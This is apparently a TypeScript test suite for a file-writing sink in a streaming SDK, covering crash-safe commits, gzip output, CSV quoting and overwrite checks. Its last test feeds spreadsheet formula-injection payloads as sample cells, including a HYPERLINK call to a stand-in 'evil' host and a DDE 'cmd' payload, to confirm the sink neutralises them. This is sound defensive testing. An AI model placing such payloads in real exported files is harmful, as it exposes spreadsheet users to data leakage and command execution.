import {
  appendFileSync,
  existsSync,
  mkdtempSync,
  readFileSync,
  rmSync,
  statSync,
  truncateSync,
  writeFileSync,
} from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { gunzipSync, gzipSync } from 'node:zlib';
import type { Behaviour, Context, Op, Setup, StreamRecord, Value } from '@millrace/sdk';
import { checkOperator, runOperator } from '@millrace/sdk/testing';
import { parse } from 'csv-parse/sync';
import fc from 'fast-check';
import { afterEach, beforeEach, describe, expect, it } from 'vitest';
import { MEMBER_BYTES } from './gzip-members.js';
import { write } from './write.js';

let dir: string;
beforeEach(() => {
  dir = mkdtempSync(join(tmpdir(), 'millrace-write-'));
});
afterEach(() => rmSync(dir, { recursive: true, force: true }));

/** A task as far as the sink sees it: state that commits copy and crashes throw back to the last copy. */
class Task {
  #committed: { file: Value; uncut: Uint8Array[] } = { file: undefined, uncut: [] };
  #live!: { file: Value; uncut: Uint8Array[] };
  #sink!: Behaviour;
  filtered = 0;
  /** Bytes of uncut text that commits had to store. */
  stored = 0;

  constructor(
    /** May be changed between two starts, as a new version of the workflow does. */
    public config: Value,
    private readonly overwrite = false,
  ) {}

  get #context(): Context {
    const live = this.#live;
    const add = (piece: Uint8Array): void => {
      this.stored += piece.length;
      live.uncut.push(Buffer.from(piece));
    };
    const state = {
      file: {
        get: () => live.file,
        set: (value: Value) => {
          live.file = structuredClone(value);
        },
      },
      uncut: {
        get: () => live.uncut,
        add,
        set: (pieces: Uint8Array[]) => {
          live.uncut = [];
          pieces.forEach(add);
        },
        clear: () => {
          live.uncut = [];
        },
      },
    };
    return { state, filtered: () => void this.filtered++ } as unknown as Context;
  }

  /** Starts, also after a crash: with what the last commit kept. */
  async start(): Promise<void> {
    this.#live = structuredClone(this.#committed);
    const services = { resolvePath: (path: string) => join(dir, path), overwrite: this.overwrite };
    this.#sink = write.create({ config: this.config, services } as unknown as Setup<Value>);
    await this.#sink.open?.(this.#context);
  }

  feed(value: Value, op: Op = 'insert'): void {
    const record: StreamRecord = { value, op, time: 0, born: 0, key: undefined };
    this.#sink.onRecord?.(record, 'in', this.#context);
  }

  /** Up to the point at which the store would make the commit permanent. */
  async prepare(): Promise<void> {
    await this.#sink.prepareCommit?.(this.#context);
  }

  async commit(): Promise<void> {
    await this.prepare();
    this.#committed = structuredClone(this.#live);
  }

  async finish(): Promise<void> {
    await this.#sink.finish?.(this.#context);
    await this.commit();
    await this.#sink.close?.();
  }

  async crash(): Promise<void> {
    await this.#sink.close?.();
  }
}

async function result(config: Value, rows: readonly Value[]): Promise<Buffer> {
  const task = new Task(config, true);
  await task.start();
  await task.commit();
  for (const row of rows) task.feed(row);
  await task.finish();
  return readFileSync(join(dir, config.path));
}

describe('files.write', () => {
  it('does what its examples say', async () => {
    await checkOperator(write);
  });

  it('writes the same bytes wherever commits and crashes fall', async () => {
    const row = fc.record({
      id: fc.nat(),
      name: fc.string({ unit: 'grapheme', maxLength: 20 }),
      pad: fc.nat({ max: 40_000 }),
    });
    const step = fc.constantFrom('commit', 'crash', 'crash while committing', 'crash and junk');
    const plan = fc.record({
      rows: fc.array(row, { maxLength: 60 }),
      steps: fc.array(fc.tuple(fc.nat({ max: 60 }), step), { maxLength: 8 }),
      path: fc.constantFrom('a.ndjson', 'a.ndjson.gz', 'a.csv', 'b.csv.gz'),
    });
    await fc.assert(
      fc.asyncProperty(plan, async ({ rows, steps, path }) => {
        const values = rows.map(({ id, name, pad }) => ({ id, name, pad: 'x'.repeat(pad) }));
        const expected = await result({ path }, values);
        rmSync(join(dir, path));
        const task = new Task({ path });
        await task.start();
        await task.commit();
        let done = 0;
        for (const [count, what] of steps) {
          const until = Math.min(values.length, done + count);
          for (let i = done; i < until; i++) task.feed(values[i]);
          if (what === 'commit') {
            await task.commit();
            done = until;
            continue;
          }
          if (what === 'crash while committing') await task.prepare();
          await task.crash();
          if (what === 'crash and junk') appendFileSync(join(dir, path), 'half a li');
          await task.start();
          await task.commit();
        }
        for (const value of values.slice(done)) task.feed(value);
        await task.finish();
        expect(readFileSync(join(dir, path)).equals(expected)).toBe(true);
      }),
      { numRuns: 100 },
    );
  });

  it('cuts gzip members at every MiB of plain bytes, and stores uncut bytes about once', async () => {
    const values = Array.from({ length: 7000 }, (_, i) => ({ i, pad: 'é'.repeat(200) }));
    const text = Buffer.from(values.map((value) => `${JSON.stringify(value)}\n`).join(''));
    const task = new Task({ path: 'a.ndjson.gz' });
    await task.start();
    await task.commit();
    for (const [i, value] of values.entries()) {
      task.feed(value);
      if (i % 50 === 0) await task.commit();
    }
    await task.finish();
    const members: Buffer[] = [];
    for (let at = 0; at < text.length; at += MEMBER_BYTES) members.push(gzipSync(text.subarray(at, at + MEMBER_BYTES)));
    expect(members.length).toBeGreaterThan(2);
    expect(readFileSync(join(dir, 'a.ndjson.gz')).equals(Buffer.concat(members))).toBe(true);
    expect(task.stored).toBeLessThan(1.2 * text.length);
  });

  it('leaves a valid file also when there was nothing to write', async () => {
    expect((await result({ path: 'a.ndjson' }, [])).length).toBe(0);
    expect(gunzipSync(await result({ path: 'a.ndjson.gz' }, [])).length).toBe(0);
    expect(String(await result({ path: 'a.csv', csv: { columns: ['id', 'name'] } }, []))).toBe('id,name\n');
  });

  it('refuses the file of another run, and replaces it when told to', async () => {
    writeFileSync(join(dir, 'a.ndjson'), '{"precious":true}\n');
    await expect(new Task({ path: 'a.ndjson' }).start()).rejects.toMatchObject({
      code: 'RESULT_EXISTS',
      hint: expect.stringMatching(/--overwrite/),
    });
    expect(readFileSync(join(dir, 'a.ndjson'), 'utf8')).toBe('{"precious":true}\n');
    expect(String(await result({ path: 'a.ndjson' }, [{ a: 1 }]))).toBe('{"a":1}\n');
  });

  it('writes nothing before its claim is committed, so a crash in between blocks nobody', async () => {
    const task = new Task({ path: 'new/folder/a.ndjson' });
    await task.start();
    expect(statSync(join(dir, 'new/folder/a.ndjson')).size).toBe(0);
    await task.crash();
    await task.start();
    await task.commit();
    task.feed({ a: 1 });
    await task.finish();
    expect(readFileSync(join(dir, 'new/folder/a.ndjson'), 'utf8')).toBe('{"a":1}\n');
  });

  it('never goes on in a file that lost committed bytes, is gone, or is another one', async () => {
    const task = new Task({ path: 'a.ndjson' });
    const path = join(dir, 'a.ndjson');
    await task.start();
    task.feed({ a: 1 });
    await task.commit();
    await task.crash();
    truncateSync(path, 3);
    await expect(task.start()).rejects.toMatchObject({ code: 'RESULT_SHORTER', params: { size: 3, committed: 8 } });
    rmSync(path);
    await expect(task.start()).rejects.toMatchObject({ code: 'RESULT_SHORTER', params: { size: 0 } });
    expect(existsSync(path)).toBe(false);
    writeFileSync(path, '{"somebody":"else","wrote":"this"}\n');
    await expect(task.start()).rejects.toMatchObject({ code: 'RESULT_REPLACED' });
    expect(statSync(path).size).toBe(35);
    writeFileSync(path, '{"a":1}\n{"a":2}\n{"a"');
    await task.start();
    expect(readFileSync(path, 'utf8')).toBe('{"a":1}\n');
    await task.crash();
  });

  it('completes the file and begins another when a new version has another path, also after a crash in between', async () => {
    const task = new Task({ path: 'a.ndjson.gz' });
    await task.start();
    task.feed({ a: 1 });
    await task.commit();
    await task.crash();
    task.config = { path: 'b.ndjson' };
    await task.start();
    await task.crash();
    await task.start();
    await task.commit();
    task.feed({ b: 2 });
    await task.finish();
    expect(String(gunzipSync(readFileSync(join(dir, 'a.ndjson.gz'))))).toBe('{"a":1}\n');
    expect(readFileSync(join(dir, 'b.ndjson'), 'utf8')).toBe('{"b":2}\n');
  });

  it('does not mix two layouts in one file', async () => {
    const task = new Task({ path: 'a.csv' });
    await task.start();
    task.feed({ a: 1, b: 2 });
    await task.commit();
    await task.crash();
    task.config = { path: 'a.csv', csv: { columns: ['b'] } };
    await expect(task.start()).rejects.toMatchObject({ code: 'RESULT_LAYOUT_CHANGED' });
  });

  it('stops when somebody else writes to the file', async () => {
    const task = new Task({ path: 'a.ndjson' });
    await task.start();
    await task.commit();
    appendFileSync(join(dir, 'a.ndjson'), 'x');
    task.feed({ a: 1 });
    await expect(task.commit()).rejects.toMatchObject({ code: 'RESULT_DISTURBED' });
    await task.crash();
  });

  it('leaves deletes out, or writes what each record does', async () => {
    const values = new Task({ path: 'a.ndjson' });
    const ops = new Task({ path: 'b.csv', changes: 'with-op' });
    for (const task of [values, ops]) {
      await task.start();
      task.feed({ sku: 'A', n: 1 }, 'upsert');
      task.feed({ sku: 'A', n: 1 }, 'delete');
      await task.finish();
    }
    expect(readFileSync(join(dir, 'a.ndjson'), 'utf8')).toBe('{"sku":"A","n":1}\n');
    expect([values.filtered, ops.filtered]).toEqual([1, 0]);
    expect(readFileSync(join(dir, 'b.csv'), 'utf8')).toBe('op,sku,n\nupsert,A,1\ndelete,A,1\n');
  });

  it('keeps broken records out of the file and their columns out of the header', async () => {
    const harness = runOperator(write, { path: 'a.csv' }, { dir });
    harness.feed('text').feed({ a: 1, b: 2 }).feed({ a: 1, c: 3 }).feed({ b: 4 }).end();
    await harness.settled();
    expect(harness.dead.map((d) => d.error.code)).toEqual(['RESULT_NOT_A_ROW', 'RESULT_COLUMN_UNKNOWN']);
    await harness.close().settled();
    expect(readFileSync(join(dir, 'a.csv'), 'utf8')).toBe('a,b\n1,2\n,4\n');
  });

  it('writes CSV that other programs read back', async () => {
    const cell = fc.string({ unit: fc.constantFrom('a', 'é', '"', ',', ';', '\n', '\r', ' ', '='), maxLength: 5 });
    await fc.assert(
      fc.asyncProperty(
        fc.array(fc.tuple(cell, cell), { minLength: 1, maxLength: 5 }),
        fc.constantFrom(',', ';', '\t', '|', '^'),
        async (rows, delimiter) => {
          const bytes = await result(
            { path: 'a.csv', csv: { delimiter, columns: ['p', 'q'] } },
            rows.map(([p, q]) => ({ p, q })),
          );
          expect(parse(bytes, { delimiter, record_delimiter: '\n' })).toEqual([['p', 'q'], ...rows]);
        },
      ),
      { numRuns: 200 },
    );
    expect(
      String(
        await result({ path: 'b.tsv', csv: { columns: ['a'], header: false } }, [{}, { a: false }, { a: { b: '"' } }]),
      ),
    ).toBe('""\nfalse\n"{""b"":""\\""""}"\n');
  });

  it('makes texts harmless for spreadsheets when told to', async () => {
    const row = {
      name: '=HYPERLINK("http://evil/?"&A1)',
      note: '@SUM(1)',
      x: '+1',
      y: "-1+cmd|' /C calc'!A0",
      z: '\t=1',
      n: -5,
      ok: 'a=b',
    };
    const [line] = String(await result({ path: 'a.csv', csv: { header: false, spreadsheetSafe: true } }, [row])).split(
      '\n',
    );
    expect(line).toBe(`"'=HYPERLINK(""http://evil/?""&A1)","'@SUM(1)","'+1","'-1+cmd|' /C calc'!A0","'\t=1",-5,a=b`);
    expect(String(await result({ path: 'b.csv', csv: { header: false } }, [{ x: '+1', z: '=1' }]))).toBe('+1,=1\n');
  });
});
